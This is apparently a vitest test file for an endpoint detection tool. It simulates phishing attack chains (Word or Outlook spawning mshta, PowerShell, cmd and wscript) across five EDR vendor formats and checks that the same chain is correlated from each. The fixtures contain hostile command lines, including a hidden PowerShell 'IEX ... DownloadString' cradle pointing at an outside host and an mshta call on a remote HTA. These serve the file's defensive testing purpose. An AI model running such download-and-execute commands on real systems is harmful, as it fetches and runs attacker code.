import { describe, expect, it } from 'vitest';
import {
  CMD,
  callsOut,
  catalogue,
  digest,
  EDGE,
  homeOf,
  MSHTA,
  mailCacheOf,
  OUTLOOK,
  POWERSHELL,
  SYSTEM32,
  statesOf,
  storyOf,
  WORD,
  WSCRIPT,
} from '../../analytics/testStory';
import { correlateHost } from '../../correlate/correlate';
import type { EndpointEvent } from '../../events/endpointEvent';
import { groupHosts, type HostDevice } from '../../events/hostGroups';
import { createIdentifier } from '../../events/identify';
import { fileName } from '../../events/paths';
import type { Scenario } from '../../events/story';
import type { Finding } from '../../findings/finding';
import { FORMATS } from '../../formats';
import { detectFormat } from '../../formats/detectFormat';
import type { VendorRecord } from '../../formats/exportFormat';
import { createNormaliser } from '../../formats/recognise';
import { createRecordDecoder } from '../../formats/recordDecoder';
import { writeDefender } from './defender';
import { writeElasticDefend } from './elasticDefend';
import { writeFalcon } from './falcon';
import { writeSentinelOne } from './sentinelOne';
import { writeSysmon } from './sysmon';

type Writer = (events: readonly EndpointEvent[]) => readonly VendorRecord[];

const WRITERS: readonly (readonly [string, Writer])[] = [
  ['Sysmon', writeSysmon],
  ['Defender', writeDefender],
  ['Falcon', writeFalcon],
  ['SentinelOne', writeSentinelOne],
  ['Elastic Defend', writeElasticDefend],
];

/** Stories told with what all five sensors see: starts, files, names, connections. */
const STORIES: readonly (readonly [string, (s: Scenario) => void])[] = [
  [
    'Word starts mshta on a remote HTA, which writes a script, runs it and calls out',
    (s) => {
      const word = s.starts(WORD);
      s.after('40s');
      const mshta = s.starts(MSHTA, { parent: word, commandLine: `${MSHTA} https://files.example/view.hta` });
      s.after('2s');
      callsOut(s, mshta);
      const script = `${homeOf(s)}\\AppData\\Roaming\\upd.ps1`;
      s.writes(mshta, script);
      s.starts(POWERSHELL, { parent: mshta, commandLine: `powershell.exe -w hidden -f "${script}"` });
    },
  ],
  [
    'an HTA out of the mail starts a shell',
    (s) => {
      const hta = `${mailCacheOf(s)}\\invoice.hta`;
      const outlook = s.starts(OUTLOOK);
      s.after('1m');
      s.writes(outlook, hta);
      s.marks(outlook, hta);
      s.after('5s');
      const mshta = s.starts(MSHTA, { parent: outlook, commandLine: `"${MSHTA}" "${hta}"` });
      s.after('7s');
      const shell = s.starts(CMD, { parent: mshta, commandLine: `${CMD} /c whoami` });
      s.starts(`${SYSTEM32}\\whoami.exe`, { parent: shell });
    },
  ],
  [
    'a document out of the mail starts PowerShell, which calls out',
    (s) => {
      const outlook = s.starts(OUTLOOK);
      s.after('2m');
      const document = `${mailCacheOf(s)}\\Offer.docm`;
      s.writes(outlook, document);
      s.marks(outlook, document);
      s.after('20s');
      const word = s.starts(WORD, { parent: outlook, commandLine: `"${WORD}" /n "${document}"` });
      s.after('6s');
      const line = `powershell.exe -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://cdn-sync.top/a')"`;
      const shell = s.starts(POWERSHELL, { parent: word, commandLine: line });
      s.after('3s');
      callsOut(s, shell);
    },
  ],
  [
    'an SVG out of the mail, opened in the browser, whose ZIP holds a script that calls back',
    (s) => {
      const outlook = s.starts(OUTLOOK);
      s.after('2m');
      const svg = `${mailCacheOf(s)}\\Factura_88213.svg`;
      s.writes(outlook, svg);
      s.marks(outlook, svg);
      s.after('2s');
      const edge = s.starts(EDGE, { parent: outlook, commandLine: `"${EDGE}" --single-argument ${svg}` });
      s.after('5s');
      const zip = `${homeOf(s)}\\Downloads\\Factura_88213.zip`;
      s.writes(edge, zip);
      s.marks(edge, zip, { hostUrl: 'about:internet', referrerUrl: `file:///${svg.replaceAll('\\', '/')}` });
      s.after('26s');
      const script = `${homeOf(s)}\\AppData\\Local\\Temp\\Temp1_Factura_88213.zip\\Factura_88213.js`;
      s.writes(s.explorer, script);
      const host = s.starts(WSCRIPT, { commandLine: `"${WSCRIPT}" "${script}" ` });
      s.after('1s');
      callsOut(s, host);
    },
  ],
];

describe.each(STORIES)('%s', (_story, tell) => {
  const { s } = storyOf();
  tell(s);
  const events = s
    .events()
    .filter((event) => event.kind !== 'file_access' && event['process.entity_id'] !== undefined);
  const expected = chainsOf(findingsIn(writeSysmon(events)));

  it('is told by Sysmon as a complete chain', () => {
    expect(expected.some((chain) => chain.status === 'complete')).toBe(true);
  });

  it.each(WRITERS)('is the same chain in the form of %s', (_vendor, write) => {
    expect(chainsOf(findingsIn(write(events)))).toEqual(expected);
  });

  it('is one chain, found once, when every product saw the same machine', () => {
    const all = WRITERS.flatMap(([, write]) => write(events));
    expect(chainsOf(findingsIn(all))).toEqual(expected);
  });
});

/** What must be the same whoever recorded it; points and texts may differ with what a product knows. */
function chainsOf(findings: readonly Finding[]) {
  const told = findings.map((finding) => ({
    analytic: finding.analytic,
    status: finding.status,
    anchor: fileName(finding.anchor.image ?? ''),
    commandLine: finding.anchor.commandLine,
    stages: statesOf(finding),
    events: finding.stages
      .flatMap((stage) =>
        stage.events.map((event) => `${stage.id}: ${event.kind} ${fileName(event.image ?? '')}`),
      )
      .filter((line) => !line.includes('file_stream'))
      .filter((line, i, all) => all.indexOf(line) === i)
      .sort(),
  }));
  return told.sort((a, b) => (a.analytic < b.analytic ? -1 : 1));
}

/** Reads records as an import would: bytes → records → events → one host → findings. */
function findingsIn(records: readonly VendorRecord[]): readonly Finding[] {
  const bytes = new TextEncoder().encode(records.map((record) => JSON.stringify(record)).join('\n'));
  const normalise = createNormaliser(detectFormat(bytes, true).format, FORMATS);
  const identify = createIdentifier(digest);
  const decoder = createRecordDecoder();
  const devices: HostDevice[] = [];
  const events: EndpointEvent[] = [];
  for (const record of [...decoder.push(bytes), ...decoder.end().records]) {
    expect(record.refused).toBeUndefined();
    for (const outcome of record.value === undefined ? [] : normalise(record.value)) {
      if (outcome.outcome === 'quarantined') throw new Error(outcome.reason);
      if (outcome.outcome === 'ignored') {
        if (outcome.device !== undefined)
          devices.push({ device: outcome.device.id, name: outcome.device.name });
        continue;
      }
      const event = identify(outcome.event);
      events.push(event);
      if (event['host.id'] !== undefined) devices.push({ device: event['host.id'], name: event.host });
    }
  }
  const groups = groupHosts(
    events.map((event) => event.host),
    devices,
  );
  const hosts = new Set(events.map((event) => groups.get(event.host)?.canonical));
  expect(hosts.size).toBe(1);
  const [host = ''] = hosts;
  return correlateHost({ host, events, catalogue, digest }).findings;
}
